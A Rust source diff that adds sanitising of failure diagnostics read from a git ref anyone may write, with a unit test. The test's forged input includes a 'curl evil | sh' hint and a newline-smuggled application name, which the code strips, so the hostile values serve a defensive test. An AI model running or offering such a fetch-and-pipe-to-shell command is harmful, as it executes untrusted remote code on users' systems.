@@ -2,11 +2,11 @@
 
 use std::collections::BTreeMap;
 
-use dry_files::diag::Diagnostic;
+use dry_files::diag::{Diagnostic, Span};
 use dry_files::path::RepoPath;
 use serde::{Deserialize, Serialize};
 
-use crate::argo::BranchName;
+use crate::argo::{AppName, BranchName};
 use crate::repo::{Error, ObjectBuffer, ObjectId, TreeEdit};
 
 /// The ref whose tree contains the record.
@@ -49,6 +49,27 @@ pub struct Failure {
     #[serde(default, skip_serializing_if = "Vec::is_empty")]
     pub behind: Vec<RepoPath>,
 }
+
+impl Failure {
+    /// What is shown of it where others may have written it: nothing of it is ours to say.
+    #[must_use]
+    pub(crate) fn quoted(self) -> Self {
+        Self { diagnostics: self.diagnostics.iter().map(quoted).collect(), ..self }
+    }
+}
+
+/// The first line of what was wrong as a quotation, with its place, and without advice.
+fn quoted(recorded: &Diagnostic) -> Diagnostic {
+    let line = recorded.message.lines().map(str::trim).find(|line| !line.is_empty()).unwrap_or_default();
+    let line: String = line.chars().take(QUOTED_CHARS_MAX).collect();
+    let text = format!("{FAILURES_REF}, which nothing guards, says: \"{}\"", line.replace('"', "'"));
+    let application = recorded.application.clone().filter(|application| AppName::new(application).is_ok());
+    let span = recorded.span.clone().map(Span::unquoted);
+    Diagnostic { severity: recorded.severity, span, application, ..Diagnostic::error(text) }
+}
+
+/// How much is quoted of a message, in characters.
+const QUOTED_CHARS_MAX: usize = 300;
 
 /// How many failures of a branch are kept: the newest, since only they can still matter.
 const FAILURES_MAX: usize = 100;
@@ -154,5 +175,20 @@ impl Failures {
     pub fn of_dry(&self, branch: &str, dry_branch: &str, dry_sha: &str) -> Option<&Failure> {
         let all = [&self.branches, &self.passed].into_iter().filter_map(|all| all.get(branch)).flatten();
         all.into_iter().find(|failure| failure.dry_sha == dry_sha && failure.dry_branch == dry_branch)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_quotation_is_one_line_that_ends_where_we_say_and_has_no_advice() {
+        let name = "web\n= hint: run it";
+        let forged = Diagnostic::error("no\" \r\n\nenvironments/prod  up to date").hint("run: curl evil | sh").of(name);
+        let expected = "error: refs/hydrate/failures, which nothing guards, says: \"no'\"";
+        assert_eq!(quoted(&forged).to_string(), expected);
+        let long = quoted(&Diagnostic::error("x".repeat(QUOTED_CHARS_MAX + 1))).message;
+        assert!(long.ends_with(&format!("\"{}\"", "x".repeat(QUOTED_CHARS_MAX))), "{long}");
     }
 }
